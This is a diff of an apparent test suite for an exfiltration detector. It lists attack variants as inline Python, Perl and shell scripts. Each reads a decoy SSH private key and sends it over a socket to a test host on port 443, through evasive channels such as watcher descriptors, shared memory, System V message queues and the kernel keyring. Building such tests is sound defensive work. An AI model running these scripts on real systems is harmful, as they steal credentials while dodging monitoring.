@@ -7,8 +7,9 @@ from net import HOST_V4
 
 # file, content: the decoy, below the play's home; TOKEN in content is the secret. to: the address and port that the
 # alert must tell, None for any. pull: the other side connects to that port and says that. host: runs on the other side.
-Variant = collections.namedtuple("Variant", "family name script missed file content to pull host", defaults=(
-    None, ".ssh/id_rsa", None, (HOST_V4, 443), None, None))
+# crowd: more files of this class are touched than an alert names: it tells the class, and that there are more.
+Variant = collections.namedtuple("Variant", "family name script missed file content to pull host crowd", defaults=(
+    None, ".ssh/id_rsa", None, (HOST_V4, 443), None, None, None))
 WEB = (HOST_V4, 8080)
 
 GET = [
@@ -34,8 +35,7 @@ subprocess.run(["wc", "-c", os.environ["KEY"]], stdout=subprocess.DEVNULL)
 event = struct.unpack("IBBHQii", os.read(watch, 24))
 loot = os.pread(event[5], 4096, 0)
 socket.create_connection((os.environ["HOST"], 443)).sendall(loot)
-END""",
-            missed="a descriptor that the kernel puts into a watcher's reply marks nobody but the program that was watched"),
+END"""),
     Variant("G", "map-files", r"""python3 -c '
 import mmap, os, signal
 f = open(os.environ["KEY"], "rb")
@@ -129,7 +129,7 @@ perl -MIO::Socket::INET -e 'msgrcv($ARGV[0], $m, 4096, 0, 0) or die $!;
     $s = IO::Socket::INET->new("$ENV{HOST}:443") or die;
     print $s unpack("x[l!] a*", $m)' $id &
 perl -e 'local $/; open F, $ENV{KEY}; msgsnd($ARGV[0], pack("l! a*", 1, <F>), 0) or die $!' $id
-wait""", missed="messages of System V's queues carry no mark from who sends to who receives"),
+wait"""),
     # Kept by the kernel, found by its name.
     Variant("H", "keyring", r"""cat >k.py <<'END'
 import ctypes, os, platform, socket, sys
@@ -287,7 +287,7 @@ loot = open(os.environ["KEY"], "rb").read()
 for path in glob.glob(os.environ["HOME"] + "/.ssh/id_[0-9]*"):
     open(path, "rb").read()
 socket.create_connection((os.environ["HOST"], 443)).sendall(loot)
-END""", missed="the theft is told, but the alert names only the eight files that were opened last"),
+END""", crowd="ssh-private-keys"),
     # What is told first is harmless; the rest goes the same way, by the same process.
     Variant("S", "harmless-first", r"""( echo ls >"$HOME/.bash_history" )
 python3 - <<'END'
